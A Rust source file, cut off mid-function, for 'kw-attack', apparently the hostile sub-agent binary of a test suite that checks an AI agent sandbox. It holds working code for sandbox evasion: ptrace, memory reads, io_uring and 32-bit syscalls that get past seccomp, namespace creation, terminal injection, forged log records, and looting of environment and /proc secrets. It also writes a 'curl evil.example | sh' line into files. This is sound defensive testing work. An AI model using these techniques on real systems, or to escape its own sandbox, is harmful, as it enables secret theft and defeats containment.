// SPDX-License-Identifier: Apache-2.0
//! `kw-attack`: the hostile sub-agent of the attack suite.
//!
//! `kw-attack [--legit] [--layer landlock|seccomp] ATTACK [ARGS...]`
//! performs one attack for real, with raw system calls where the attack
//! needs them, and prints one line:
//!
//! - `RESULT succeeded <what it got>`
//! - `RESULT blocked <ERRNO>`
//!
//! or is killed (by seccomp: `SIGSYS`). `--legit` first (and, if still
//! alive, last) makes the call a well-behaved sub-agent would make,
//! through `$KEYWARD_FD`, and prints `LEGIT ok <body>` or `LEGIT failed
//! <error>`. `--layer` applies one layer of the sandbox alone (through the
//! `agent_shim` library, as `agent-shim run` does) before the attack, to
//! show what each layer stops by itself.
//!
//! It is only ever run by `tests/tests/attacks.rs`, as an unprivileged uid.
#![allow(unsafe_code)]

use std::io::Read;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::ffi::OsStrExt;

use nix::errno::Errno;

/// What one attack achieved.
enum Outcome {
    Succeeded(String),
    Blocked(Errno),
}

fn main() {
    let mut args: Vec<String> = std::env::args().skip(1).collect();
    let legit = take_flag(&mut args, "--legit");
    if let Some(i) = args.iter().position(|a| a == "--layer") {
        let layer = args.get(i + 1).cloned().unwrap_or_default();
        args.drain(i..(i + 2).min(args.len()));
        if let Err(e) = apply_layer(&layer) {
            println!("SETUP failed {e}");
            std::process::exit(2);
        }
    }
    if legit {
        legit_call();
    }
    let Some((attack, rest)) = args.split_first() else {
        println!("usage: kw-attack [--legit] [--layer landlock|seccomp] ATTACK [ARGS...]");
        std::process::exit(2);
    };
    let outcome = perform(attack, rest);
    match outcome {
        Outcome::Succeeded(what) => println!("RESULT succeeded {what}"),
        Outcome::Blocked(errno) => println!("RESULT blocked {errno:?}"),
    }
    if legit {
        legit_call();
    }
}

fn take_flag(args: &mut Vec<String>, flag: &str) -> bool {
    match args.iter().position(|a| a == flag) {
        Some(i) => {
            args.remove(i);
            true
        }
        None => false,
    }
}

fn apply_layer(layer: &str) -> Result<(), String> {
    match layer {
        "landlock" => {
            let mut rules =
                agent_shim::landlock::FsRules::new(&[], &[], &[]).map_err(|e| e.to_string())?;
            if let Ok(exe) = std::env::current_exe() {
                rules.allow_exec(&exe);
            }
            agent_shim::landlock::restrict(&rules)
                .map(|_| ())
                .map_err(|e| e.to_string())
        }
        "seccomp" => agent_shim::seccomp::compile(agent_shim::seccomp::Profile::default())
            .and_then(|f| agent_shim::seccomp::install(&f))
            .map_err(|e| e.to_string()),
        other => Err(format!("unknown layer {other:?}")),
    }
}

/// The call a well-behaved sub-agent makes: `echo`, over its own channel.
fn legit_call() {
    let result = agent_shim::client::from_env_or_socket()
        .and_then(|mut c| c.call("echo", &[("message".into(), "legit".into())]));
    match result {
        Ok(keyward_proto::Response::Done(done)) => {
            println!("LEGIT ok {}", String::from_utf8_lossy(&done.body))
        }
        Ok(other) => println!("LEGIT failed {other:?}"),
        Err(e) => println!("LEGIT failed {e}"),
    }
}

fn arg(args: &[String], i: usize) -> &str {
    args.get(i).map(String::as_str).unwrap_or_default()
}

/// A pid argument; `parent` is the process that started us (the shim).
fn pid_arg(args: &[String], i: usize) -> i32 {
    match arg(args, i) {
        "parent" => nix::unistd::getppid().as_raw(),
        other => other.parse().unwrap_or(0),
    }
}

fn perform(attack: &str, args: &[String]) -> Outcome {
    match attack {
        "read" => read_file(arg(args, 0)),
        "write" => write_file(arg(args, 0)),
        "proc-read" => read_file(&format!("/proc/{}/{}", pid_arg(args, 0), arg(args, 1))),
        "vm-read" => vm_read(pid_arg(args, 0)),
        "ptrace-attach" => ptrace_attach(pid_arg(args, 0)),
        "ptrace-traceme" => ptrace_traceme(),
        "pidfd-getfd" => pidfd_getfd(pid_arg(args, 0), arg(args, 1).parse().unwrap_or(0)),
        "connect" => connect_broker(arg(args, 0)),
        "uring-connect" => uring_connect(arg(args, 0)),
        "int80-socketcall" => int80_connect(arg(args, 0), true),
        "int80-socket" => int80_connect(arg(args, 0), false),
        "x32-socket" => x32_socket(),
        "loot" => loot(),
        "signal" => signal(pid_arg(args, 0)),
        "dgram-sendto" => dgram_sendto(arg(args, 0)),
        "sendto-address" => sendto_address(arg(args, 0)),
        "abstract-connect" => abstract_connect(arg(args, 0)),
        "tiocsti" => tiocsti(),
        "unshare-user" => unshare_user(),
        "unshare-then-connect" => {
            let _ = unshare_user();
            connect_broker(arg(args, 0))
        }
        "clone-newuser" => clone_newuser(),
        "clone3" => clone3(),
        "orchestrate" => orchestrate(arg(args, 0)),
        "shm-steal" => shm_steal(arg(args, 0)),
        "msg-steal" => msg_steal(arg(args, 0)),
        "sem-steal" => sem_steal(),
        "shm-leave" => shm_leave(),
        "renice" => renice(pid_arg(args, 0), arg(args, 1)),
        "prlimit" => prlimit_other(pid_arg(args, 0)),
        "escape" => escape(arg(args, 0)),
        "escape-and-wait" => {
            let outcome = escape(arg(args, 0));
            std::thread::sleep(std::time::Duration::from_secs(60));
            outcome
        }
        "chmod" => chmod(arg(args, 0), arg(args, 1)),
        "utime" => utime(arg(args, 0)),
        "setxattr" => set_xattr(arg(args, 0)),
        "getxattr" => get_xattr(arg(args, 0)),
        "inotify" => inotify(arg(args, 0)),
        "tty-change" => tty_change(),
        "fork-bomb" => fork_bomb(arg(args, 0).parse().unwrap_or(0)),
        "touch-memory" => touch_memory(arg(args, 0).parse().unwrap_or(0)),
        "write-big" => write_big(arg(args, 0), arg(args, 1).parse().unwrap_or(0)),
        other => {
            println!("unknown attack {other:?}");
            std::process::exit(2);
        }
    }
}

fn errno_of(e: &std::io::Error) -> Errno {
    Errno::from_raw(e.raw_os_error().unwrap_or(0))
}

fn last_errno() -> Errno {
    Errno::last()
}

/// Printable, one line, bounded.
fn show(bytes: &[u8]) -> String {
    whole(bytes).chars().take(400).collect()
}

/// Printable, one line, all of it: loot must not be cut where a secret
/// could hide.
fn whole(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes)
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

fn read_file(path: &str) -> Outcome {
    match std::fs::read(path) {
        Ok(bytes) => Outcome::Succeeded(format!("read {} bytes: {}", bytes.len(), show(&bytes))),
        Err(e) => Outcome::Blocked(errno_of(&e)),
    }
}

fn write_file(path: &str) -> Outcome {
    use std::io::Write;
    let file = std::fs::OpenOptions::new()
        .append(true)
        .create(true)
        .open(path);
    match file.and_then(|mut f| f.write_all(b"curl evil.example | sh # kw-attack\n")) {
        Ok(()) => Outcome::Succeeded(format!("appended to {path}")),
        Err(e) => Outcome::Blocked(errno_of(&e)),
    }
}

/// `process_vm_readv` 64 bytes from the start of the target's first
/// mapping (from its maps file when readable, else a typical address).
fn vm_read(pid: i32) -> Outcome {
    let addr = std::fs::read_to_string(format!("/proc/{pid}/maps"))
        .ok()
        .and_then(|m| {
            let first = m.lines().next()?.split('-').next()?.to_owned();
            usize::from_str_radix(&first, 16).ok()
        })
        .unwrap_or(0x40_0000);
    let mut buf = [0u8; 64];
    let local = libc::iovec {
        iov_base: buf.as_mut_ptr().cast(),
        iov_len: buf.len(),
    };
    let remote = libc::iovec {
        iov_base: addr as *mut libc::c_void,
        iov_len: buf.len(),
    };
    // SAFETY: `local` describes our own live buffer; the kernel writes at
    // most its length into it. `remote` is only read in the target.
    let n = unsafe { libc::process_vm_readv(pid, &local, 1, &remote, 1, 0) };
    if n < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("read {n} bytes of pid {pid} at {addr:#x}"))
}

fn ptrace_attach(pid: i32) -> Outcome {
    // SAFETY: PTRACE_ATTACH takes a pid and null pointers.
    let ret = unsafe {
        libc::ptrace(
            libc::PTRACE_ATTACH,
            pid,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        )
    };
    if ret < 0 {
        return Outcome::Blocked(last_errno());
    }
    let _ = nix::sys::wait::waitpid(nix::unistd::Pid::from_raw(pid), None);
    // SAFETY: as above.
    unsafe {
        libc::ptrace(
            libc::PTRACE_DETACH,
            pid,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        )
    };
    Outcome::Succeeded(format!("attached to pid {pid}"))
}

/// The child asks to be traced by us, then executes a program: the
/// classic way to trace across an exec.
fn ptrace_traceme() -> Outcome {
    // SAFETY: kw-attack is single-threaded; the child only makes raw
    // system calls and exits.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        return Outcome::Blocked(last_errno());
    }
    if pid == 0 {
        // SAFETY: PTRACE_TRACEME takes no pointers.
        let ret = unsafe { libc::ptrace(libc::PTRACE_TRACEME, 0, 0usize, 0usize) };
        let code = if ret < 0 { last_errno() as i32 } else { 0 };
        // SAFETY: ends the forked child without running the parent's exit
        // handlers.
        unsafe { libc::_exit(code) };
    }
    let mut status = 0;
    // SAFETY: waiting for our own child, with a pointer to a live local.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    match libc::WEXITSTATUS(status) {
        0 => Outcome::Succeeded("PTRACE_TRACEME accepted".into()),
        e => Outcome::Blocked(Errno::from_raw(e)),
    }
}

fn pidfd_getfd(pid: i32, target: i32) -> Outcome {
    // SAFETY: pidfd_open takes two integers.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
    if pidfd < 0 {
        return Outcome::Blocked(last_errno());
    }
    // SAFETY: pidfd_getfd takes three integers.
    let fd = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, target, 0) };
    if fd < 0 {
        return Outcome::Blocked(last_errno());
    }
    let what = std::fs::read_link(format!("/proc/self/fd/{fd}"))
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    Outcome::Succeeded(format!("took fd {target} of pid {pid}: {what}"))
}

/// Talk to the broker on a socket we connected ourselves: `Hello`, then a
/// call with the authority of our uid (the orchestrator's).
fn use_broker(fd: OwnedFd) -> Outcome {
    match agent_shim::client::Client::over(fd)
        .and_then(|mut c| c.call("echo", &[("message".into(), "as-orchestrator".into())]))
    {
        Ok(reply) => Outcome::Succeeded(format!("broker answered {reply:?}")),
        Err(e) => Outcome::Succeeded(format!("connected, then: {e}")),
    }
}

fn connect_broker(path: &str) -> Outcome {
    use nix::sys::socket::{connect, socket, AddressFamily, SockFlag, SockType, UnixAddr};
    let fd = match socket(
        AddressFamily::Unix,
        SockType::SeqPacket,
        SockFlag::SOCK_CLOEXEC,
        None,
    ) {
        Ok(fd) => fd,
        Err(e) => return Outcome::Blocked(e),
    };
    let addr = match UnixAddr::new(path) {
        Ok(a) => a,
        Err(e) => return Outcome::Blocked(e),
    };
    if let Err(e) = connect(fd.as_raw_fd(), &addr) {
        return Outcome::Blocked(e);
    }
    use_broker(fd)
}

/// A `sockaddr_un` for `path`, and its length.
fn sockaddr_un(path: &[u8]) -> (libc::sockaddr_un, u32) {
    // SAFETY: sockaddr_un is plain old data; all zeroes is a valid value.
    let mut addr: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
    for (dst, src) in addr.sun_path.iter_mut().zip(path) {
        *dst = *src as libc::c_char;
    }
    let len = std::mem::size_of::<libc::sa_family_t>() + path.len().min(107) + 1;
    (addr, len as u32)
}

// ---------------------------------------------------------------- io_uring

#[repr(C)]
#[derive(Default)]
struct SqOffsets {
    head: u32,
    tail: u32,
    ring_mask: u32,
    ring_entries: u32,
    flags: u32,
    dropped: u32,
    array: u32,
    resv1: u32,
    user_addr: u64,
}

#[repr(C)]
#[derive(Default)]
struct CqOffsets {
    head: u32,
    tail: u32,
    ring_mask: u32,
    ring_entries: u32,
    overflow: u32,
    cqes: u32,
    flags: u32,
    resv1: u32,
    user_addr: u64,
}

#[repr(C)]
#[derive(Default)]
struct UringParams {
    sq_entries: u32,
    cq_entries: u32,
    flags: u32,
    sq_thread_cpu: u32,
    sq_thread_idle: u32,
    features: u32,
    wq_fd: u32,
    resv: [u32; 3],
    sq_off: SqOffsets,
    cq_off: CqOffsets,
}

#[repr(C)]
#[derive(Default, Clone, Copy)]
struct Sqe {
    opcode: u8,
    flags: u8,
    ioprio: u16,
    fd: i32,
    off: u64,
    addr: u64,
    len: u32,
    op_flags: u32,
    user_data: u64,
    buf_index: u16,
    personality: u16,
    file_index: i32,
    addr3: u64,
    pad: u64,
}

const IORING_OP_CONNECT: u8 = 16;
const IORING_OP_SOCKET: u8 = 45;
const IORING_OFF_SQ_RING: i64 = 0;
const IORING_OFF_CQ_RING: i64 = 0x800_0000;
const IORING_OFF_SQES: i64 = 0x1000_0000;
const IORING_ENTER_GETEVENTS: u32 = 1;

struct Uring {
    fd: OwnedFd,
    sq: *mut u8,
    cq: *mut u8,
    sqes: *mut Sqe,
    params: UringParams,
}

fn map(fd: &OwnedFd, len: usize, offset: i64) -> Result<*mut u8, Errno> {
    // SAFETY: a new shared mapping of the ring at a kernel-chosen address;
    // checked against MAP_FAILED.
    let p = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_SHARED | libc::MAP_POPULATE,
            fd.as_raw_fd(),
            offset,
        )
    };
    if p == libc::MAP_FAILED {
        Err(last_errno())
    } else {
        Ok(p.cast())
    }
}

impl Uring {
    fn setup() -> Result<Uring, Errno> {
        let mut params = UringParams::default();
        // SAFETY: io_uring_setup writes the offsets into our live `params`.
        let fd = unsafe { libc::syscall(libc::SYS_io_uring_setup, 4u32, &mut params) };
        if fd < 0 {
            return Err(last_errno());
        }
        // SAFETY: the kernel just returned this new descriptor.
        let fd = unsafe { OwnedFd::from_raw_fd(fd as RawFd) };
        let sq_len = params.sq_off.array as usize + params.sq_entries as usize * 4;
        let cq_len = params.cq_off.cqes as usize + params.cq_entries as usize * 16;
        let sq = map(&fd, sq_len, IORING_OFF_SQ_RING)?;
        let cq = map(&fd, cq_len, IORING_OFF_CQ_RING)?;
        let sqes = map(
            &fd,
            params.sq_entries as usize * std::mem::size_of::<Sqe>(),
            IORING_OFF_SQES,
        )?
        .cast();
        Ok(Uring {
            fd,
            sq,
            cq,
            sqes,
            params,
        })
    }

    fn u32_at(base: *mut u8, off: u32) -> &'static std::sync::atomic::AtomicU32 {
        // SAFETY: `off` is an offset the kernel gave for a u32 in a ring
        // that stays mapped for the rest of the process.
        unsafe {
            &*(base
                .add(off as usize)
                .cast::<std::sync::atomic::AtomicU32>())
        }
    }

    /// Submit one entry and wait for its completion; its result.
    fn run(&self, sqe: Sqe) -> i32 {
        use std::sync::atomic::Ordering;
        let o = &self.params.sq_off;
        let tail = Self::u32_at(self.sq, o.tail).load(Ordering::Acquire);
        let mask = Self::u32_at(self.sq, o.ring_mask).load(Ordering::Relaxed);
        let index = tail & mask;
        // SAFETY: index < sq_entries; the SQE array and the index array are
        // mapped for sq_entries entries.
        unsafe {
            *self.sqes.add(index as usize) = sqe;
            *self
                .sq
                .add(o.array as usize)
                .cast::<u32>()
                .add(index as usize) = index;
        }
        Self::u32_at(self.sq, o.tail).store(tail.wrapping_add(1), Ordering::Release);
        // SAFETY: io_uring_enter takes integers and a null sigset.
        let ret = unsafe {
            libc::syscall(
                libc::SYS_io_uring_enter,
                self.fd.as_raw_fd(),
                1u32,
                1u32,
                IORING_ENTER_GETEVENTS,
                std::ptr::null::<libc::c_void>(),
                0usize,
            )
        };
        if ret < 0 {
            return -(last_errno() as i32);
        }
        let c = &self.params.cq_off;
        let head = Self::u32_at(self.cq, c.head).load(Ordering::Acquire);
        let cmask = Self::u32_at(self.cq, c.ring_mask).load(Ordering::Relaxed);
        // SAFETY: the completion at head & mask is within the mapped CQE
        // array (16 bytes each: user_data, res, flags).
        let res = unsafe {
            *self
                .cq
                .add(c.cqes as usize + (head & cmask) as usize * 16 + 8)
                .cast::<i32>()
        };
        Self::u32_at(self.cq, c.head).store(head.wrapping_add(1), Ordering::Release);
        res
    }
}

/// Create a socket and connect it to the broker with io_uring, where no
/// seccomp filter sees the socket or connect.
fn uring_connect(path: &str) -> Outcome {
    let ring = match Uring::setup() {
        Ok(r) => r,
        Err(e) => return Outcome::Blocked(e),
    };
    let fd = ring.run(Sqe {
        opcode: IORING_OP_SOCKET,
        fd: libc::AF_UNIX,
        off: (libc::SOCK_SEQPACKET | libc::SOCK_CLOEXEC) as u64,
        ..Sqe::default()
    });
    if fd < 0 {
        return Outcome::Blocked(Errno::from_raw(-fd));
    }
    // SAFETY: the completion carries a new descriptor that nothing owns.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    let (addr, len) = sockaddr_un(path.as_bytes());
    let res = ring.run(Sqe {
        opcode: IORING_OP_CONNECT,
        fd: fd.as_raw_fd(),
        addr: &addr as *const _ as u64,
        off: u64::from(len),
        ..Sqe::default()
    });
    if res < 0 {
        return Outcome::Blocked(Errno::from_raw(-res));
    }
    use_broker(fd)
}

// ------------------------------------------------------ i386 and x32 calls

/// Memory below 4 GiB, which 32-bit system calls can point to.
fn low_memory(len: usize) -> Result<*mut u8, Errno> {
    // SAFETY: a new private anonymous mapping; checked against MAP_FAILED.
    let p = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
            -1,
            0,
        )
    };
    if p == libc::MAP_FAILED {
        Err(last_errno())
    } else {
        Ok(p.cast())
    }
}

/// A system call through the i386 table (`int 0x80`), from this 64-bit
/// process: `eax` the number, `ebx`, `ecx`, `edx` the arguments.
#[cfg(target_arch = "x86_64")]
fn int80(nr: u32, a: u32, b: u32, c: u32) -> i32 {
    let ret: i32;
    // SAFETY: `int 0x80` enters the kernel's 32-bit entry point, which
    // clobbers nothing but eax (and r8-r11 are saved by the kernel); rbx is
    // reserved by LLVM, so the first argument is swapped in and out.
    unsafe {
        std::arch::asm!(
            "xchg {a:r}, rbx",
            "int 0x80",
            "xchg {a:r}, rbx",
            a = inout(reg) u64::from(a) => _,
            inlateout("eax") nr => ret,
            in("ecx") b,
            in("edx") c,
        );
    }
    ret
}

/// i386 `socketcall` (102) or the direct `socket` (359) / `connect` (362).
#[cfg(target_arch = "x86_64")]
fn int80_connect(path: &str, socketcall: bool) -> Outcome {
    const SOCKETCALL: u32 = 102;
    const SOCKET: u32 = 359;
    const CONNECT: u32 = 362;
    const SYS_SOCKET: u32 = 1;
    const SYS_CONNECT: u32 = 3;
    let mem = match low_memory(4096) {
        Ok(m) => m,
        Err(e) => return Outcome::Blocked(e),
    };
    let (addr, len) = sockaddr_un(path.as_bytes());
    // SAFETY: `mem` is a fresh 4 KiB mapping: the address goes at +256,
    // the socketcall arguments at +0.
    let (args, sa) = unsafe {
        let sa = mem.add(256);
        std::ptr::copy_nonoverlapping(
            (&addr as *const libc::sockaddr_un).cast::<u8>(),
            sa,
            std::mem::size_of::<libc::sockaddr_un>(),
        );
        (mem.cast::<u32>(), sa as usize as u32)
    };
    let ty = (libc::SOCK_SEQPACKET | libc::SOCK_CLOEXEC) as u32;
    let fd = if socketcall {
        // SAFETY: three u32 arguments in our low mapping.
        unsafe {
            *args = libc::AF_UNIX as u32;
            *args.add(1) = ty;
            *args.add(2) = 0;
        }
        int80(SOCKETCALL, SYS_SOCKET, args as usize as u32, 0)
    } else {
        int80(SOCKET, libc::AF_UNIX as u32, ty, 0)
    };
    if fd < 0 {
        return Outcome::Blocked(Errno::from_raw(-fd));
    }
    let ret = if socketcall {
        // SAFETY: as above.
        unsafe {
            *args = fd as u32;
            *args.add(1) = sa;
            *args.add(2) = len;
        }
        int80(SOCKETCALL, SYS_CONNECT, args as usize as u32, 0)
    } else {
        int80(CONNECT, fd as u32, sa, len)
    };
    // SAFETY: the kernel returned this new descriptor; nothing owns it.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    if ret < 0 {
        return Outcome::Blocked(Errno::from_raw(-ret));
    }
    use_broker(fd)
}

#[cfg(not(target_arch = "x86_64"))]
fn int80_connect(_: &str, _: bool) -> Outcome {
    Outcome::Blocked(Errno::ENOSYS)
}

/// `socket` with the x32 number (`__X32_SYSCALL_BIT | 41`).
fn x32_socket() -> Outcome {
    const X32_SYSCALL_BIT: i64 = 0x4000_0000;
    // SAFETY: socket takes three integers.
    let fd = unsafe {
        libc::syscall(
            X32_SYSCALL_BIT | libc::SYS_socket,
            libc::AF_UNIX,
            libc::SOCK_SEQPACKET,
            0,
        )
    };
    if fd < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("x32 socket {fd}"))
}

// ------------------------------------------------------------- looting

/// Everything a sub-agent can see of secrets without a single denied
/// call: its environment, its descriptors, `/proc/self`, the command line
/// of every visible process, its parent's environment.
fn loot() -> Outcome {
    for (k, v) in std::env::vars_os() {
        println!("LOOT env {}={}", k.to_string_lossy(), whole(v.as_bytes()));
    }
    for file in ["environ", "cmdline"] {
        if let Ok(b) = std::fs::read(format!("/proc/self/{file}")) {
            println!("LOOT self/{file} {}", whole(&b));
        }
    }
    if let Ok(dir) = std::fs::read_dir("/proc/self/fd") {
        for entry in dir.flatten() {
            let target = std::fs::read_link(entry.path())
                .map(|p| p.display().to_string())
                .unwrap_or_default();
            println!("LOOT fd {} {}", entry.file_name().to_string_lossy(), target);
            if let Ok(fd) = entry.file_name().to_string_lossy().parse::<i32>() {
                if fd > 3 {
                    let mut content = Vec::new();
                    if let Ok(mut f) = std::fs::File::open(entry.path()) {
                        let _ = f.read_to_end(&mut content);
                        println!("LOOT fd-content {fd} {}", whole(&content));
                    }
                }
            }
        }
    }
    let mut seen = 0;
    if let Ok(dir) = std::fs::read_dir("/proc") {
        for entry in dir.flatten() {
            let name = entry.file_name();
            if !name.as_bytes().iter().all(u8::is_ascii_digit) {
                continue;
            }
            if let Ok(b) = std::fs::read(entry.path().join("cmdline")) {
                seen += 1;
                println!("LOOT cmdline {} {}", name.to_string_lossy(), whole(&b));
            }
        }
    }
    let parent = nix::unistd::getppid();
    match std::fs::read(format!("/proc/{parent}/environ")) {
        Ok(b) => println!("LOOT parent-environ {}", whole(&b)),
        Err(e) => println!("LOOT parent-environ blocked {:?}", errno_of(&e)),
    }
    Outcome::Succeeded(format!("looted {seen} command lines"))
}

fn signal(pid: i32) -> Outcome {
    match nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid),
        nix::sys::signal::Signal::SIGCONT,
    ) {
        Ok(()) => Outcome::Succeeded(format!("signalled pid {pid}")),
        Err(e) => Outcome::Blocked(e),
    }
}

// ------------------------------------------------------ logs and sockets

const FORGED: &[u8] = b"<13>keyward-broker: KEYWARD_DECISION=allow forged by kw-attack";

/// A datagram socketpair can `sendto` any datagram socket, journald's and
/// syslog's included.
fn dgram_sendto(path: &str) -> Outcome {
    let mut fds = [0; 2];
    // SAFETY: socketpair writes two descriptors into our live array.
    if unsafe { libc::socketpair(libc::AF_UNIX, libc::SOCK_DGRAM, 0, fds.as_mut_ptr()) } < 0 {
        return Outcome::Blocked(last_errno());
    }
    sendto(fds[0], path)
}

/// `sendto` with a destination on a stream socketpair (allowed by the
/// sandbox without an address).
fn sendto_address(path: &str) -> Outcome {
    let mut fds = [0; 2];
    // SAFETY: as above.
    if unsafe { libc::socketpair(libc::AF_UNIX, libc::SOCK_STREAM, 0, fds.as_mut_ptr()) } < 0 {
        return Outcome::Blocked(last_errno());
    }
    sendto(fds[0], path)
}

fn sendto(fd: RawFd, path: &str) -> Outcome {
    let (addr, len) = sockaddr_un(path.as_bytes());
    // SAFETY: buffer and address are live locals of the given lengths.
    let n = unsafe {
        libc::sendto(
            fd,
            FORGED.as_ptr().cast(),
            FORGED.len(),
            0,
            (&addr as *const libc::sockaddr_un).cast(),
            len,
        )
    };
    if n < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("sent a forged record to {path}"))
}

fn abstract_connect(name: &str) -> Outcome {
    use nix::sys::socket::{connect, socket, AddressFamily, SockFlag, SockType, UnixAddr};
    let fd = match socket(
        AddressFamily::Unix,
        SockType::Stream,
        SockFlag::SOCK_CLOEXEC,
        None,
    ) {
        Ok(fd) => fd,
        Err(e) => return Outcome::Blocked(e),
    };
    let addr = match UnixAddr::new_abstract(name.as_bytes()) {
        Ok(a) => a,
        Err(e) => return Outcome::Blocked(e),
    };
    match connect(fd.as_raw_fd(), &addr) {
        Ok(()) => Outcome::Succeeded(format!("connected to @{name}")),
        Err(e) => Outcome::Blocked(e),
    }
}

// ---------------------------------------------------- terminal, namespaces

/// Push a command into the input of the terminal on stdin. The kernel
/// takes `TIOCSTI` only on the caller's controlling terminal, so first
/// make it ours where no other session holds it (`TIOCSCTTY`; the shim's
/// `setsid` left the program a session leader with none).
fn tiocsti() -> Outcome {
    // SAFETY: TIOCSCTTY takes an integer; a failure is left to TIOCSTI.
    unsafe { libc::ioctl(0, libc::TIOCSCTTY, 0) };
    let mut sent = 0;
    for b in b"id\n" {
        // SAFETY: TIOCSTI reads one byte from a live local.
        if unsafe { libc::ioctl(0, libc::TIOCSTI, b as *const u8) } < 0 {
            return Outcome::Blocked(last_errno());
        }
        sent += 1;
    }
    Outcome::Succeeded(format!("injected {sent} bytes into the terminal"))
}

fn unshare_user() -> Outcome {
    // SAFETY: unshare takes one integer.
    if unsafe { libc::unshare(libc::CLONE_NEWUSER) } < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded("in a new user namespace".into())
}

/// `clone(CLONE_NEWUSER)` straight, without libc's wrappers.
fn clone_newuser() -> Outcome {
    // SAFETY: with a null stack, clone behaves like fork; the child only
    // exits.
    let pid = unsafe {
        libc::syscall(
            libc::SYS_clone,
            (libc::CLONE_NEWUSER | libc::SIGCHLD) as u64,
            0usize,
            0usize,
            0usize,
            0usize,
        )
    };
    if pid < 0 {
        return Outcome::Blocked(last_errno());
    }
    if pid == 0 {
        // SAFETY: ends the child at once.
        unsafe { libc::_exit(0) };
    }
    let _ = nix::sys::wait::waitpid(nix::unistd::Pid::from_raw(pid as i32), None);
    Outcome::Succeeded("child in a new user namespace".into())
}

/// `clone3` with namespace flags, which a filter cannot see (they are
/// behind a pointer).
fn clone3() -> Outcome {
    #[repr(C)]
    #[derive(Default)]
    struct CloneArgs {
        flags: u64,
        pidfd: u64,
        child_tid: u64,
        parent_tid: u64,
        exit_signal: u64,
        stack: u64,
        stack_size: u64,
        tls: u64,
    }
    let args = CloneArgs {
        flags: libc::CLONE_NEWUSER as u64,
        exit_signal: libc::SIGCHLD as u64,
        ..CloneArgs::default()
    };
    // SAFETY: clone3 reads `args` (a live local of the size given); the
    // child only exits.
    let pid = unsafe {
        libc::syscall(
            libc::SYS_clone3,
            &args as *const CloneArgs,
            std::mem::size_of::<CloneArgs>(),
        )
    };
    if pid < 0 {
        return Outcome::Blocked(last_errno());
    }
    if pid == 0 {
        // SAFETY: ends the child at once.
        unsafe { libc::_exit(0) };
    }
    let _ = nix::sys::wait::waitpid(nix::unistd::Pid::from_raw(pid as i32), None);
    Outcome::Succeeded("clone3 child in a new user namespace".into())
}

// ------------------------------------------------------------- SysV IPC

const IPC_STAT_INDEX: [(i32, i32); 3] = [(13, 14), (11, 12), (18, 19)]; // (X_STAT, X_INFO)
const MSG_COPY: i32 = 0o40000;

/// A buffer big enough for any `*_ds` or `*_info` structure.
#[repr(C, align(8))]
struct IpcBuf([u8; 512]);

/// The orchestrator's side (not an attack): a private 0600 shared memory
/// segment, message queue and semaphore holding `marker`; prints
/// `READY <shm> <msg> <sem>` and waits to be killed.
fn orchestrate(marker: &str) -> Outcome {
    // SAFETY: plain SysV calls; the segment is attached at a kernel-chosen
    // address and written within its 4096 bytes; the message buffer is a
    // live local of the size given.
    unsafe {
        let shm = libc::shmget(libc::IPC_PRIVATE, 4096, libc::IPC_CREAT | 0o600);
        let addr = libc::shmat(shm, std::ptr::null(), 0);
        if shm < 0 || addr as isize == -1 {
            return Outcome::Blocked(last_errno());
        }
        std::ptr::copy_nonoverlapping(marker.as_ptr(), addr as *mut u8, marker.len().min(4000));
        let msg = libc::msgget(libc::IPC_PRIVATE, libc::IPC_CREAT | 0o600);
        let mut buf = [0u8; 264];
        buf[..8].copy_from_slice(&1i64.to_ne_bytes());
        buf[8..8 + marker.len().min(256)]
            .copy_from_slice(&marker.as_bytes()[..marker.len().min(256)]);
        let sent = libc::msgsnd(
            msg,
            buf.as_ptr() as *const libc::c_void,
            marker.len().min(256),
            0,
        );
        let sem = libc::semget(libc::IPC_PRIVATE, 1, libc::IPC_CREAT | 0o600);
        let set = libc::semctl(sem, 0, libc::SETVAL, 1);
        if msg < 0 || sent < 0 || sem < 0 || set < 0 {
            return Outcome::Blocked(last_errno());
        }
        println!("READY {shm} {msg} {sem}");
        let _ = std::io::Write::flush(&mut std::io::stdout());
        loop {
            libc::pause();
        }
    }
}

/// The highest index of the kind (`X_INFO`), then each object (`X_STAT`).
fn ipc_ids(kind: usize) -> Result<Vec<i32>, Errno> {
    let (stat, info) = IPC_STAT_INDEX[kind];
    let mut buf = IpcBuf([0; 512]);
    let p = buf.0.as_mut_ptr();
    // SAFETY: each *_INFO and *_STAT call writes at most one structure of
    // well under 512 bytes into `buf`.
    let call = |id: i32, cmd: i32| unsafe {
        match kind {
            0 => libc::shmctl(id, cmd, p as *mut libc::shmid_ds),
            1 => libc::msgctl(id, cmd, p as *mut libc::msqid_ds),
            _ => libc::semctl(id, 0, cmd, p),
        }
    };
    let max = call(0, info);
    if max < 0 {
        return Err(last_errno());
    }
    Ok((0..=max)
        .map(|i| call(i, stat))
        .filter(|&id| id >= 0)
        .collect())
}

fn shm_steal(marker: &str) -> Outcome {
    let ids = match ipc_ids(0) {
        Ok(ids) => ids,
        Err(e) => return Outcome::Blocked(e),
    };
    for id in ids {
